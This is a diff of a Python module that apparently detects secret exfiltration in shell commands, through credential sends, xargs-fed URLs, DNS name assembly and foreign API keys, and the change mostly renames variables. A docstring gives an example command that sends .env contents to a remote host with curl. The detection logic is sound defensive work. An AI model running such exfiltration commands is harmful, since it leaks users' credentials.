@@ -20,9 +20,9 @@ RESOLVERS = program_catalogue.programs("name_resolver")
 _ENCODERS = program_catalogue.programs("encoder")
 
 
-def exfiltrations(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
+def exfiltrations(reading: Reading, effects: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
     sends = [
-        effect for effect in found if effect.kind in _SENDS and "local" not in effect.flags and effect.program is not None
+        effect for effect in effects if effect.kind in _SENDS and "local" not in effect.flags and effect.program is not None
     ]
     sends = sends[:MAX_PARTNERS]
     redirected = [
@@ -30,14 +30,14 @@ def exfiltrations(reading: Reading, found: tuple[Effect, ...], where: Where) -> 
         for program in reading.runs
         if any(redirect.kind != "read" and redirect.target.startswith(SOCKET) for redirect in program.redirects)
     ]
-    handed = any(effect.program is not None and line_wrapper(effect.program) for effect in found if effect.kind in _ASKS)
+    handed = any(effect.program is not None and line_wrapper(effect.program) for effect in effects if effect.kind in _ASKS)
     if not sends and not redirected and not handed:
         return
-    yield from _sent_credentials(sends, reading, found, where)
-    yield from _exfiltrated_by_xargs(reading, found, where)
+    yield from _sent_credentials(sends, reading, effects, where)
+    yield from _exfiltrated_by_xargs(reading, effects, where)
     for program in redirected[:MAX_PARTNERS]:
         if "credentials" in _input_flags(program, reading, where) or any(
-            effect.program is program and effect.place == "credentials" for effect in found
+            effect.program is program and effect.place == "credentials" for effect in effects
         ):
             yield Effect("exfiltrate", program.redirects[-1].target, "remote", frozenset(), program)
 
@@ -45,15 +45,15 @@ def exfiltrations(reading: Reading, found: tuple[Effect, ...], where: Where) -> 
 _ASKS = _SENDS | {"fetch", "connect"}
 
 
-def _exfiltrated_by_xargs(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
+def _exfiltrated_by_xargs(reading: Reading, effects: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
     """`xargs -I{} curl "https://host/{}" < .env`: each line of a key file becomes an address or a word."""
-    asking = [effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags]
+    asking = [effect for effect in effects if effect.kind in _ASKS and "local" not in effect.flags]
     for effect in asking[:MAX_PARTNERS]:
         program = effect.program
         hander = line_wrapper(program) if program is not None else ""
         if program is None or not hander or not any(UNKNOWN in word for word in program.argv):
             continue
-        wrappers = (each for each in reading.runs if each.name == hander)
+        wrappers = (run for run in reading.runs if run.name == hander)
         if any(_is_fed_credentials(wrapper, reading, where) for wrapper in wrappers):
             yield Effect("exfiltrate", effect.target.replace(UNKNOWN, "?"), "remote", frozenset(), program)
 
@@ -67,13 +67,13 @@ def _is_fed_credentials(wrapper: ProgramRun, reading: Reading, where: Where) -> 
     )
 
 
-def _sent_credentials(sends: list[Effect], reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
+def _sent_credentials(sends: list[Effect], reading: Reading, effects: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
     """Once for each target, and last what goes by mail."""
     targets: set[str] = set()
     for send in sends:
         if send.program is None or send.target in targets or "mail" in send.flags:
             continue
-        flags = _exfiltration_flags(send, send.program, reading, found, where)
+        flags = _exfiltration_flags(send, send.program, reading, effects, where)
         if flags is not None:
             targets.add(send.target)
             yield Effect("exfiltrate", send.target, "remote", flags, send.program)
@@ -89,13 +89,13 @@ def _reaches(taker: ProgramRun, program: ProgramRun, reading: Reading) -> bool:
 
 
 def _exfiltration_flags(
-    send: Effect, program: ProgramRun, reading: Reading, found: tuple[Effect, ...], where: Where
+    send: Effect, program: ProgramRun, reading: Reading, effects: tuple[Effect, ...], where: Where
 ) -> frozenset[str] | None:
     """The flags of the `exfiltrate` effect that this sending amounts to, or None."""
     flags = send.flags | _input_flags(program, reading, where)
     if "credentials" in flags or (program.given and _given_secret(program, reading)):
         return frozenset()
-    for taken in _secrets_before(program, reading, found):
+    for taken in _secrets_before(program, reading, effects):
         if taken.program is not None and _reaches(taken.program, program, reading):
             return frozenset() if taken.place == "credentials" else frozenset({"bulk"})
     if "secret" in flags and _is_for_host(_variables(program), _host(send.target)) and not _goes_elsewhere(program):
@@ -121,8 +121,8 @@ _LOGS_IN = lazy_re.compile(
 def _variables(program: ProgramRun) -> list[str]:
     """The variables that hold secrets among what a program is given."""
     feeds = [feed for _, feed in program.given] + ([program.stdin] if program.stdin is not None else [])
-    found = [name[1:] for feed in feeds for name in feed.programs if name[:1] == "$" and name not in ("$secret", "$()")]
-    return found[:MAX_PARTNERS]
+    variables = [name[1:] for feed in feeds for name in feed.programs if name[:1] == "$" and name not in ("$secret", "$()")]
+    return variables[:MAX_PARTNERS]
 
 
 def _is_for_host(variables: list[str], host: str) -> bool:
@@ -158,9 +158,9 @@ def _hosts_of(program: ProgramRun, request: Effect | None) -> set[str]:
     return {_host(request.target)} if not {"private", "-"} & request.flags else set()
 
 
-def foreign_keys(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
+def foreign_keys(reading: Reading, effects: tuple[Effect, ...]) -> Iterator[Effect]:
     """A key of a known service in a request to another host, also in its headers, and in an address that is kept."""
-    asked = {id(effect.program): effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags}
+    asked = {id(effect.program): effect for effect in effects if effect.kind in _ASKS and "local" not in effect.flags}
     for program in reading.runs:
         if not program.given or not (variables := _variables(program)):
             continue
@@ -169,14 +169,14 @@ def foreign_keys(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect
                 yield Effect("exfiltrate", host, "remote", frozenset({"secret"}), program)
 
 
-def _secrets_before(program: ProgramRun, reading: Reading, found: tuple[Effect, ...]) -> list[Effect]:
+def _secrets_before(program: ProgramRun, reading: Reading, effects: tuple[Effect, ...]) -> list[Effect]:
     """Credentials read and whole folders packed before this program runs; credentials first."""
     earlier: set[int] = set()
     for other in reading.runs:
         if other is program:
             break
         earlier.add(id(other))
-    taken = [effect for effect in found if effect.kind in _TAKES and id(effect.program) in earlier]
+    taken = [effect for effect in effects if effect.kind in _TAKES and id(effect.program) in earlier]
     secret = [effect for effect in taken if effect.place == "credentials"]
     whole = [effect for effect in taken if effect.place in ("root", "home", "system") and effect.kind == "pack"]
     return secret[:MAX_PARTNERS] + whole[:MAX_PARTNERS]
@@ -232,9 +232,9 @@ def _name(word: str) -> str:
     return word.rpartition("@")[2].partition(";")[0].rpartition("/")[2]
 
 
-def exfiltrated_by_dns(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
+def exfiltrated_by_dns(reading: Reading, effects: tuple[Effect, ...]) -> Iterator[Effect]:
     """DNS names assembled from pieces, beside a program that makes such pieces out of a file."""
-    secret = any(effect.place == "credentials" for effect in found)
+    secret = any(effect.place == "credentials" for effect in effects)
     if not secret and not any(
         program.name in _ENCODERS or any(word.startswith("/etc/") for word in program.argv[1:]) for program in reading.runs
     ):
